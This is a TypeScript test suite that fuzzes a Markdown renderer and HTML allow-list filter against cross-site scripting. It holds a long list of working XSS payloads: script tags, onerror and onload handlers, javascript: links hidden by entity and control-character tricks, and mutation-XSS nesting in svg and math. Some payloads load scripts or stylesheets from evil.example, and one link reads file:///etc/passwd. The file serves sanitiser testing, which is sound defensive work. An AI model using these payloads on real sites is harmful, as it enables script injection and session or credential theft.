import fc from 'fast-check';
import { parseFragment, serialize } from 'parse5';
import sanitizeHtml from 'sanitize-html';
import { runsOf } from '../../../test/support/full-form.js';
import { findIntruders } from '../../../test/support/html-intruders.js';
import { ALLOWED_ELEMENTS, filterHtml } from '../html/html-allow-list.js';
import { renderMarkdown } from './markdown.js';

const REL = 'nofollow ugc noopener noreferrer';

const RUNS = runsOf(12_000);

/** The same list, enforced by a sanitiser that shares no code with ours. */
function sanitised(html: string): string {
  return sanitizeHtml(html, {
    allowedTags: Object.keys(ALLOWED_ELEMENTS),
    allowedAttributes: Object.fromEntries(
      Object.entries(ALLOWED_ELEMENTS).map(([element, attributes]) => [element, [...attributes]]),
    ),
    allowedSchemes: ['http', 'https', 'mailto'],
    allowProtocolRelative: false,
    disallowedTagsMode: 'escape',
  });
}

const canonical = (html: string) => serialize(parseFragment(html));

/** One or more attacks of each class: tags, attributes, schemes, encodings, nesting, mutation. */
const ATTACKS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script/x>alert(1)</script\t>',
  '<img src=x onerror=alert(1)>',
  '<img src="x" onerror="alert(1)"',
  '<img/src=x/onerror=alert(1)//',
  '<image href=x onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text y=9>a</text></a></svg>',
  '<svg><animate attributeName=href values=javascript:alert(1) />',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
  '<textarea></textarea><img src=x onerror=alert(1)>',
  '<title><img src=x onerror=alert(1)></title>',
  '<plaintext><img src=x onerror=alert(1)>',
  '<template><img src=x onerror=alert(1)></template>',
  '<select><style></select><img src=x onerror=alert(1)></style>',
  '<iframe src=javascript:alert(1)></iframe>',
  '<iframe srcdoc="<img src=x onerror=alert(1)>">',
  '<object data=javascript:alert(1)></object><embed src=javascript:alert(1)>',
  '<base href="https://evil.example/">',
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '<style>@import "https://evil.example/x.css";</style>',
  '<p style="background:url(javascript:alert(1))">a</p>',
  '<p onclick=alert(1) id=x class=y>a</p>',
  '<form action=javascript:alert(1)><button formaction=javascript:alert(1)>a</button></form>',
  '<input autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>',
  '<a href=javascript:alert(1)>a</a>',
  '<a href="&#106;avascript:alert(1)">a</a>',
  '<a href="java&#x0A;script:alert(1)">a</a>',
  '<a href="&#1;javascript:alert(1)">a</a>',
  '<a href="javascript&colon;alert(1)">a</a>',
  '<a href="https://e.org/" onmouseover="alert(1)">a</a>',
  "<a href='https://e.org/' title='\"><img src=x onerror=alert(1)>'>a</a>",
  '<a href="https://e.org/&quot; onclick=&quot;alert(1)">a</a>',
  '<a href=`javascript:alert(1)`>a</a>',
  '<a\u00a0href=javascript:alert(1)>a</a>',
  '<a target=_blank rel=opener href=https://e.org>a</a>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!-- --!><img src=x onerror=alert(1)> -->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?xml-stylesheet href="javascript:alert(1)"?>',
  '<!DOCTYPE x [<!ENTITY y "z">]>',
  '</p><img src=x onerror=alert(1)><p>',
  '</code></pre><script>alert(1)</script>',
  '<\0script>alert(1)</script>',
  '<\u017fcript>alert(1)</\u017fcript>',
  '＜script＞alert(1)＜/script＞',
  '[a](javascript:alert(1))',
  '[a](JaVaScRiPt:alert(1))',
  '[a](java\\script:alert(1))',
  '[a](&#x6A;avascript:alert(1))',
  '[a](javascript&#58;alert(1))',
  '[a](javascript&Tab;:alert(1))',
  '[a](<java\tscript:alert(1)>)',
  '[a](\u0001javascript:alert(1))',
  '[a](vbscript:x) [a](data:text/html;base64,PHNjcmlwdD4=) [a](file:///etc/passwd)',
  '[a](https://e.org/"onclick="alert(1)) [a](<https://e.org/" onclick="alert(1)>)',
  '[a](https://e.org "\\"><img src=x onerror=alert(1)>")',
  '[a](https://e.org \'" onmouseover="alert(1)\')',
  '[a]\n\n[a]: javascript:alert(1) "b"',
  '[a]\n\n[a]: https://e.org/"onclick="alert(1)',
  '![a](javascript:alert(1)) ![a](data:image/svg+xml,<svg onload=alert(1)>)',
  '![a" onerror="alert(1)](https://e.org/i.png)',
  '![<img src=x onerror=alert(1)>](https://e.org/i.png)',
  '<javascript:alert(1)> <data:text/html,x> <https://e.org/"onclick="alert(1)>',
  'https://e.org/"onclick="alert(1) https://e.org/<script>alert(1)</script>',
  "https://e.org/'onclick='alert(1) https://e.org/&quot;onclick=&quot;alert(1)",
  '```"><img src=x onerror=alert(1)>\na\n```',
  '``` x" onclick="alert(1)\n</code></pre><script>alert(1)</script>\n```',
  '`<img src=x onerror=alert(1)>` `` </code><script> ``',
  '|a|\n|:-" onclick="alert(1)|\n|b|',
  '|<img src=x onerror=alert(1)>|\n|-|\n|</table><script>|',
  '# <img src=x onerror=alert(1)>',
  '&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62;',
  '*a<img src=x onerror=alert(1)>* **<script>**',
  '> <script>\n> alert(1)\n> </script>',
  '1" onclick="alert(1). a',
  '{{constructor.constructor("alert(1)")()}} ${alert(1)} <%= x %>',
];

const oneOf = (words: string) => fc.constantFrom(...words.split(' '));

const tag = oneOf(
  'script img svg math style iframe a p td table select option template noscript xmp textarea ' +
    'title form input mglyph mtext desc foreignObject annotation-xml base link meta object ' +
    'plaintext SCRIPT x-y',
);
const scheme = oneOf(
  'javascript: JAVAscript: java\tscript: java&#10;script: &#106;avascript: javascript&colon; ' +
    '\u0001javascript: vbscript: data: https://e.org/ //e.org/ mailto:a@e.org?subject= ' +
    'http://e.org? view-source: blob:',
);
const quote = fc.constantFrom('"', "'", '`', '', '&quot;', '&#34;');
const encode = fc.constantFrom<(text: string) => string>(
  (text) => text,
  (text) => text.replace(/</g, '&lt;'),
  (text) => text.replace(/[<>]/g, (character) => `&#${character.charCodeAt(0)};`),
  (text) => text.replace(/[a-c]/g, (character) => `&#x${character.charCodeAt(0).toString(16)};`),
  (text) => text.toUpperCase(),
  (text) => text.replace(/</g, '<<'),
  (text) => text.replace(/ /g, '/'),
  (text) => text.replace(/ /g, '\n'),
  (text) => text.replace(/>/g, ''),
  (text) => `\\${text}`,
);
const attribute = fc
  .tuple(
    oneOf('href src onerror onclick style xlink:href title align rel start'),
    quote,
    scheme,
    fc.constantFrom('alert(1)', '"><img src=x onerror=alert(1)>', 'a b', '/*\u2028*/', ''),
  )
  .map(([name, mark, prefix, value]) => `${name}=${mark}${prefix}${value}${mark}`);
const element = fc
  .tuple(
    tag,
    fc.array(attribute, { maxLength: 3 }),
    fc.constantFrom('>', '/>', ' >', '', '>a</'),
    encode,
  )
  .map(([name, attributes, end, encoding]) =>
    encoding(`<${[name, ...attributes].join(' ')}${end}`),
  );
const link = fc
  .tuple(
    fc.constantFrom('[', '!['),
    scheme,
    quote,
    fc.constantFrom('alert(1)', '" onclick="x', 'a<b>'),
  )
  .map(([open, prefix, mark, rest]) => `${open}a](${prefix}${rest} ${mark}t${mark})`);
const glue = fc.oneof(
  fc.constantFrom('', ' ', '\n', '\n\n', '```\n', '> ', '- ', '\n|-|\n'),
  oneOf('* ** ` | \\ <!-- --> </p> </ < & [ ]( ) <http:// https://e.org/ ]]> \0 ~~'),
);
const source = fc
  .array(
    fc.oneof(
      element,
      link,
      glue,
      fc.tuple(tag).map(([name]) => `</${name}>`),
    ),
    { maxLength: 8 },
  )
  .map((parts) => parts.join(''));

describe('rendered Markdown', () => {
  it.each(ATTACKS)('holds nothing that is not on the list: %j', (attack) => {
    expect(findIntruders(renderMarkdown(attack))).toEqual([]);
    expect(findIntruders(filterHtml(attack))).toEqual([]);
  });

  it('holds nothing that is not on the list in thousands of made attacks', () => {
    fc.assert(
      fc.property(source, (text) => {
        expect(findIntruders(renderMarkdown(text))).toEqual([]);
      }),
      { numRuns: RUNS, seed: 20_261 },
    );
  });

  it('is what another sanitiser with the same list leaves as it is', () => {
    const list = fc.oneof(fc.constantFrom(...ATTACKS), source);
    fc.assert(
      fc.property(list, (text) => {
        const html = renderMarkdown(text);
        expect(canonical(sanitised(html))).toBe(canonical(html));
      }),
      { numRuns: RUNS / 3, seed: 20_262 },
    );
  });

  it('passes the second layer without a change', () => {
    fc.assert(
      fc.property(source, (text) => {
        const html = renderMarkdown(text);
        expect(filterHtml(html)).toBe(html);
      }),
      { numRuns: RUNS / 4, seed: 20_263 },
    );
  });
});

describe('the second layer alone', () => {
  it('lets nothing through that is not on the list, were the first to fail', () => {
    fc.assert(
      fc.property(source, (html) => {
        expect(findIntruders(filterHtml(html))).toEqual([]);
      }),
      { numRuns: RUNS, seed: 20_264 },
    );
  });

  it('keeps what is on the list', () => {
    const html =
      `<ol start="3"><li><a href="https://e.org/?a&amp;b" rel="${REL}">c</a></li></ol>` +
      '<table><tbody><tr><td align="right"><em>d</em><br></td></tr></tbody></table>';
    expect(filterHtml(html)).toBe(html);
    expect(filterHtml('<a href="https://e.org/">a</a>')).toBe(
      `<a href="https://e.org/" rel="${REL}">a</a>`,
    );
    expect(filterHtml('<td align="right" style="x">')).toBe('<td align="right">');
    expect(filterHtml('<ol start="x"><li value="1x">')).toBe('<ol><li>');
    expect(filterHtml('<ol start="4"><li value="18">')).toBe('<ol start="4"><li value="18">');
  });
});

describe('the oracle', () => {
  it('finds what must not be there', () => {
    const bad = '<p id="a">b</p><img src="c"><a href="javascript:d">e</a><!-- f --><svg></svg>';
    expect(findIntruders(bad)).toEqual([
      'p.id',
      '<img>',
      'img.src',
      'href=javascript:d',
      'an address without rel',
      '#comment',
      '<svg>',
      'http://www.w3.org/2000/svg',
    ]);
  });
});
